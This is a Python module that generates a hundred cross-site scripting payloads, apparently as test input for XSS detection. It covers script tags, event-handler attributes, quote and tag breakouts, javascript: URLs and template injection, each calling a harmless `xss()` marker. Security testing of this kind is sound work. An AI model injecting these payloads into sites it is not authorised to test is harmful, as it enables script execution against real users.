"""A hundred texts that run `xss()` where a page forgets to escape them, for every place that a text can stand in."""

_SHAPES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<details open ontoggle={}>",
    "<video src=x onerror={}>",
    "<audio src=x onerror={}>",
    "<style onload={}></style>",
    "<object data=x onerror={}>",
    "<input autofocus onfocus={}>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    '" autofocus onfocus={} x="',
    "' autofocus onfocus={} x='",
    '"onmouseover={} x="',
    "</textarea><svg onload={}>",
    "</title><svg onload={}>",
    "</script><script>{}</script>",
    "</option></select><svg onload={}>",
    "<!--><svg onload={}>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "javascript:{}",
    "';{};//",
    "{{{{{}}}}}${{{}}}",
)
_CALLS = ("xss()", "top.xss()", "xss(1)", "eval('xss()')")
PAYLOADS = tuple(shape.format(*[call] * shape.count("{}")) for call in _CALLS for shape in _SHAPES)
ALL = " ".join(PAYLOADS)


def packed(limit: int) -> list[str]:
    """All of them, in texts of at most `limit` characters. What opens a comment stands at an end, to hide no other."""
    texts = [""]
    for payload in PAYLOADS:
        if len(texts[-1]) + len(payload) + 1 > limit:
            texts.append("")
        texts[-1] = f"{payload} {texts[-1]}".strip()
    return texts
